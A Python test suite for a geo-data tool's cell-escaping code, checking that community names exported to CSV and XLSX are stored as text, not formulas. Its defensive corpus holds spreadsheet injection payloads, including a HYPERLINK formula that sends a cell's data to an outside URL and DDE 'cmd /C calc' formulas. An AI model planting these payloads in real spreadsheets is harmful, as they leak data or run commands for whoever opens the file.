"""Tests for geo.data.cells: user text reaches every CSV and XLSX cell as text, never as a formula.

The helpers (:func:`csv_rows`, :func:`workbook_cells`, :func:`starts_a_formula`) are in
tests/helpers.py, shared with the export, intake and template tests, which run the hostile corpus
through their doors.
"""

from __future__ import annotations

import io

import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest

from geo.cli import main
from geo.config import load_config
from geo.data import cells
from geo.data.cells import (
    csv_bytes,
    normalised_text,
    spreadsheet_cells,
    spreadsheet_text,
    xlsx_row,
    xlsx_text,
)
from geo.data.io import write_layers
from geo.pipeline import load_city
from geo.plan import run_plan
from tests import hostile
from tests.helpers import INVISIBLE as _INVISIBLE
from tests.helpers import csv_rows, starts_a_formula, workbook_cells

SAMPLE = "data/liuzhou_sample.gpkg"


# --------------------------------------------------------------------------- the rule, by hand

# Each formula of the shared corpus and what a cell must hold instead, written out by hand.
FORMULA_CELLS = {
    "=1+2": "'=1+2",
    "+1+2": "'+1+2",
    "-1+2": "'-1+2",
    "@SUM(9)": "'@SUM(9)",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
    '\x01=HYPERLINK("' + hostile.OUTSIDE_URL + '?d="&C2,"详情")': "'=HYPERLINK(\""
    + hostile.OUTSIDE_URL
    + '?d="&C2,"详情")',
    "\u200b=1+2": "'=1+2",
    "\ufeff=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "\u202e=1+2": "'=1+2",
    "\u00a0=1+2": "'\u00a0=1+2",
    "＝1+2": "'＝1+2",
    '=DDE("cmd";"/C calc";"A0")': '\'=DDE("cmd";"/C calc";"A0")',
}

OTHER_CELLS = {
    "\u202e小区名称\u202c": "小区名称",
    "\u200f右到左\u200e": "右到左",
    " =1": "' =1",
    "\u3000＠x": "'\u3000＠x",
    "﹦1": "'﹦1",
    "\n=1": "'\n=1",
    "\tTab": "'\tTab",
    "-5": "'-5",
    "a\x00b\x7fc\x85d\u00ade": "abcde",
    "\u2066=1\u2069": "'=1",
    "x\ud800y\uffffz": "xyz",
    "柳东社区 =1+2": "柳东社区 =1+2",
    "a\r\nb": "a\r\nb",
    "'=1+2": "'=1+2",
    "#N/A": "#N/A",
    "": "",
}


def test_the_formula_corpus_is_covered_by_hand():
    assert set(FORMULA_CELLS) == set(hostile.FORMULA)


@pytest.mark.parametrize(("text", "expected"), [*FORMULA_CELLS.items(), *OTHER_CELLS.items()])
def test_spreadsheet_text(text, expected):
    assert spreadsheet_text(text) == expected
    assert spreadsheet_text(expected) == expected  # writing a cell twice changes nothing
    assert not starts_a_formula(expected)


@pytest.mark.parametrize("text", [s for s in hostile.ALL if s not in hostile.FORMULA and s not in OTHER_CELLS])
def test_other_hostile_text_is_unchanged(text):
    assert spreadsheet_text(text) == text


def test_ordinary_names_are_unchanged():
    for name in ["柳东社区", "Riverside 小区", "450202-0012", "阳光花园（一期）", "A-1 栋", "鱼峰区", "3 号楼"]:
        assert spreadsheet_text(name) == name


def test_normalised_text_removes_invisible_characters_only():
    text = "".join(_INVISIBLE) + "\t\r\n\u00a0\u3000 ＝名"
    assert normalised_text(text) == "\t\r\n\u00a0\u3000 ＝名"


def test_spreadsheet_text_refuses_a_number():
    with pytest.raises(TypeError, match="numbers as numbers"):
        spreadsheet_text(-5)


def test_cells_of_a_column_match_the_rule_and_leave_numbers_alone():
    values = pd.Series(
        [*hostile.ALL, *OTHER_CELLS, None, -5, -2.5, np.int64(-3), True, np.nan, pd.NA],
        index=range(100, 100 + len(hostile.ALL) + len(OTHER_CELLS) + 7),
        dtype=object,
        name="名称",
    )
    result = spreadsheet_cells(values)
    assert result.index.equals(values.index) and result.name == "名称" and result.dtype == object
    texts = len(hostile.ALL) + len(OTHER_CELLS)
    assert result.iloc[:texts].tolist() == [spreadsheet_text(v) for v in values.iloc[:texts]]
    tail = result.iloc[texts:].tolist()
    assert tail[0] is None and tail[1:5] == [-5, -2.5, -3, True] and isinstance(tail[1], int)
    assert pd.isna(tail[5]) and tail[6] is pd.NA


def test_cells_of_a_string_column():
    result = spreadsheet_cells(pd.Series(["=1", None, "柳东"], dtype="string"))
    assert result.iloc[0] == "'=1" and pd.isna(result.iloc[1]) and result.iloc[2] == "柳东"


def test_csv_bytes_quote_text_and_neutralise_headers():
    table = pd.DataFrame({"=1+2": ['\x01=HYPERLINK("x")', None, "a;=1,b"], "人口": [-5, 3, None]})
    data = csv_bytes(table)
    assert data == ('\ufeff"\'=1+2","人口"\r\n"\'=HYPERLINK(""x"")",-5.0\r\n"",3.0\r\n"a;=1,b",""\r\n').encode("utf-8")
    assert csv_rows(data) == [["'=1+2", "人口"], ['\'=HYPERLINK("x")', -5.0], ["", 3.0], ["a;=1,b", ""]]


def test_xlsx_rows_store_text_as_text():
    book = openpyxl.Workbook()
    sheet = book.active
    row = ["=1+2", "#N/A", "#DIV/0!", "\r=1", "a\r\nb", -5, 2.5, None, "柳东"]
    cells.append_xlsx_row(sheet, row)
    assert [(c.value, c.data_type) for c in xlsx_row(sheet, ["#REF!"])] == [("#REF!", "s")]
    buffer = io.BytesIO()
    book.save(buffer)
    sheets = workbook_cells(buffer.getvalue())
    assert sheets[sheet.title][0] == ["'=1+2", "#N/A", "#DIV/0!", "'\n=1", "a\nb", -5, 2.5, None, "柳东"]
    assert [xlsx_text(v) for v in row if isinstance(v, str)] == ["'=1+2", "#N/A", "#DIV/0!", "'\n=1", "a\nb", "柳东"]


# --------------------------------------------------------------------------- the CLI's plan and eligibility files


@pytest.fixture(scope="module")
def hostile_city(tmp_path_factory):
    """The sample city with hostile community names, each on a community the default plan selects.

    Returns the GeoPackage and ``community_id`` → name of the renamed communities.
    """
    layers = {name: pyogrio.read_dataframe(SAMPLE, layer=name) for name in pyogrio.list_layers(SAMPLE)[:, 0]}
    city = load_city(SAMPLE)
    plan = run_plan(city.communities, city.fitness_paths, load_config(), ["city", "region"], "rank", city.applications)
    selected = pd.concat([outcome.selected["community_id"] for outcome in plan.outcomes]).tolist()
    assert len(selected) >= len(hostile.ALL)
    names = {community_id: hostile.ALL[i % len(hostile.ALL)] for i, community_id in enumerate(selected)}
    communities = layers["communities"]
    communities["name"] = communities["community_id"].map(names).fillna(communities["name"])
    path = tmp_path_factory.mktemp("hostile_city") / "city.gpkg"
    write_layers(path, layers)
    return path, names


def _names_written(rows: list[list], header: str) -> list:
    position = rows[0].index(header)
    return [row[position] for row in rows[1:]]


@pytest.mark.parametrize("command", ["plan", "eligibility"])
def test_cli_workbooks_hold_hostile_names_as_text(hostile_city, tmp_path, command, capsys):
    path, names = hostile_city
    out = tmp_path / f"{command}.xlsx"
    assert main([command, "--data", str(path), "--out", str(out)]) == 0
    capsys.readouterr()
    sheets = workbook_cells(out.read_bytes())
    written = [name for title, rows in sheets.items() if title != "参数" for name in _names_written(rows, "名称")]
    expected = {xlsx_text(name) for name in names.values()}
    assert expected <= set(written)  # every hostile name is there, as text
    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")' in written  # the reported case
    assert "{{ 6*7 }}" in written and "小区名称" in written


@pytest.mark.parametrize("command", ["plan", "eligibility"])
def test_cli_csv_holds_hostile_names_as_text(hostile_city, tmp_path, command, capsys):
    path, names = hostile_city
    out = tmp_path / f"{command}.csv"
    assert main([command, "--data", str(path), "--out", str(out)]) == 0
    capsys.readouterr()
    written = _names_written(csv_rows(out.read_bytes()), "名称")
    assert {spreadsheet_text(name) for name in names.values()} <= set(written)
    assert "'\r=1+2" in written and "'@SUM(9)" in written


def test_a_corrected_rejects_file_reads_back_without_our_apostrophes(tmp_path):
    """Round trip: the rejects CSV neutralises a name; imported again, the name is what it was."""
    from geo.intake.importer import import_file, write_rejects

    names = ["=1+2", "@SUM(9)", "-5 号楼", "'quoted' 小区", "普通小区"]
    rows = ["名称,区县,经度,纬度,人口,可用空地（平方米）,公共空间用于停车"]
    rows += [f'"{name}",城中区,109.40{i},24.32,{500 + i},400,否' for i, name in enumerate(names)]
    rows.append('"=HYPERLINK(1)",无此区,109.41,24.32,500,400,否')  # an unknown district: rejected
    source = tmp_path / "survey.csv"
    source.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8-sig")
    first = import_file(source, "communities")
    assert first.accepted["name"].tolist() == names
    rejects = write_rejects(first, tmp_path / "rejects.csv")
    text = rejects.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(1)" in text
    # The office fills in the district in the rejects file and sends it back.
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(text.replace(',"\'=HYPERLINK(1)","无此区",', ',"\'=HYPERLINK(1)","城中区",'), encoding="utf-8-sig")
    again = import_file(fixed, "communities")
    assert again.accepted["name"].tolist() == ["=HYPERLINK(1)"]
    # A name that merely starts with an apostrophe keeps it.
    assert import_file(source, "communities").accepted["name"].tolist()[3] == "'quoted' 小区"
